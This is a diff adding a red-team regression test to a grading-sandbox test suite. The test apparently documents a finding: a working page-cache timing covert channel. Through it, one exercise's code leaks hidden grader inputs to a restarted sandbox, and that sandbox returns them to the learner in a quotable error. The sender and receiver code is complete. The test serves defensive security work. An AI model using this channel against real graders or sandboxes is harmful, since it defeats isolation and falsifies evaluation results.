@@ -491,3 +491,119 @@ def test_the_public_model_loader_refuses_a_decompression_bomb():
     result = subprocess.run([sys.executable, "-c", LOADER_BOMB_CHECK.format(course=str(COURSE))],
                             capture_output=True, text=True, timeout=120)
     assert result.stdout.startswith("REFUSED"), result.stdout + result.stderr[-500:]
+
+
+# --- 15. Hidden inputs cross into a restarted sandbox through the page cache ------------------
+# grading-guarantees.md: "A sandbox restarted after a failure starts with no hidden input seen",
+# so an error of the restarted sandbox is quotable. But every sandbox reads the SAME host files
+# (/usr, the Python installation) through one page cache. Exercise A, given a hidden input,
+# writes its bits into that cache (posix_fadvise DONTNEED evicts a page of a big shared file,
+# a read loads it: one bit per page) and exits. The grader restarts a sandbox for exercise B's
+# hidden calls; B's module-level code times reads of the same pages, decodes the bits and
+# raises them in its error. That load error comes from a process that never received a hidden
+# input, so it is marked quotable and `pruneedu feedback` shows it to the learner. Measured
+# here: 3 of 3 secrets read back exactly, about a second per run; hundreds of bits per restart
+# are possible (more pages), up to one restart per exercise per grading. Safe: nothing produced
+# after hidden inputs reached ANY sandbox of this learner is quotable.
+COVERT_COMMON = '''
+import os, time
+FILE = {path!r}
+STEP, BITS, COPIES = 1 << 20, 8, 3
+PAGES = [STEP * (1 + i) for i in range(BITS * COPIES)]
+MARKER = STEP * (2 + BITS * COPIES)
+
+def _open():
+    fd = os.open(FILE, os.O_RDONLY)
+    os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_RANDOM)  # one page per read, no read-ahead
+    return fd
+
+def _evict(fd, offset):
+    os.posix_fadvise(fd, offset, 4096, os.POSIX_FADV_DONTNEED)
+
+def _cold(fd, offset):
+    start = time.perf_counter_ns()
+    os.pread(fd, 1, offset)
+    return time.perf_counter_ns() - start > 25_000
+'''
+COVERT_SENDER = COVERT_COMMON + '''
+_evict(_open(), MARKER)
+
+def f(x):
+    if x < 0:
+        return 0  # the public call
+    fd = _open()
+    for i in range(BITS):
+        for copy in range(COPIES):
+            page = PAGES[i * COPIES + copy]
+            os.pread(fd, 1, page) if (x >> i) & 1 else _evict(fd, page)
+    os.pread(fd, 1, MARKER)
+    os._exit(3)
+'''
+COVERT_RECEIVER = COVERT_COMMON + '''
+_fd = _open()
+if _cold(_fd, MARKER):
+    _evict(_fd, MARKER)  # the first load, before any hidden input: nothing to read yet
+else:
+    bits = [sum(not _cold(_fd, PAGES[i * COPIES + c]) for c in range(COPIES)) >= 2
+            for i in range(BITS)]
+    raise ValueError("read back " + str(sum(bit << i for i, bit in enumerate(bits))))
+
+def f(x):
+    return 0
+'''
+
+
+def _shared_cold_file() -> str | None:
+    """A big file under /usr whose pages this machine really evicts and reloads (else None)."""
+    import os
+
+    candidates = []
+    for folder in ("/usr/lib/x86_64-linux-gnu", "/usr/lib/aarch64-linux-gnu", "/usr/lib/jvm",
+                   "/usr/share/package-lists", "/usr/lib/chromium", "/usr/lib/gcc"):
+        for here, _dirs, names in os.walk(folder):
+            for name in names:
+                path = os.path.join(here, name)
+                if os.path.isfile(path) and not os.path.islink(path) \
+                        and os.path.getsize(path) > 40 * 2**20:
+                    candidates.append(path)
+    for path in sorted(candidates):
+        fd = os.open(path, os.O_RDONLY)
+        try:
+            os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_RANDOM)
+            cold = warm = 0
+            for offset in range(2**20, 10 * 2**20, 2**20):
+                os.posix_fadvise(fd, offset, 4096, os.POSIX_FADV_DONTNEED)
+                start = time.perf_counter_ns()
+                os.pread(fd, 1, offset)
+                cold += time.perf_counter_ns() - start > 25_000
+                start = time.perf_counter_ns()
+                os.pread(fd, 1, offset)
+                warm += time.perf_counter_ns() - start <= 25_000
+            if cold == warm == 9:
+                return path
+        finally:
+            os.close(fd)
+    return None
+
+
+@pytest.mark.xfail(strict=True, reason="rt2 finding 15: hidden inputs reach a restarted "
+                   "sandbox through the shared page cache and come back in a quotable error")
+def test_a_restarted_sandbox_cannot_quote_hidden_inputs_through_the_page_cache():
+    from redteam_support import require_bwrap
+
+    require_bwrap()
+    path = _shared_cold_file()
+    if path is None:
+        pytest.skip("no big file under /usr whose pages this machine evicts on request: the "
+                    "page-cache channel cannot be shown here, test NOT run")
+    leaked = []
+    for secret in (173, 82):
+        jobs = [sandbox.Job(COVERT_SENDER.format(path=path), "f", [(-1,), (secret,)],
+                            hidden_from=1, time_limit_s=10),
+                sandbox.Job(COVERT_RECEIVER.format(path=path), "f", [(-1,), (5,)],
+                            hidden_from=1, time_limit_s=10)]
+        runs = sandbox.run_jobs(jobs, isolation="bwrap")
+        quotable = [run.error for run in runs if run.error_quotable]
+        quotable += [o.error for run in runs for o in run.outcomes if o.quotable]
+        leaked += [text for text in quotable if f"read back {secret}" in text]
+    assert not leaked, leaked
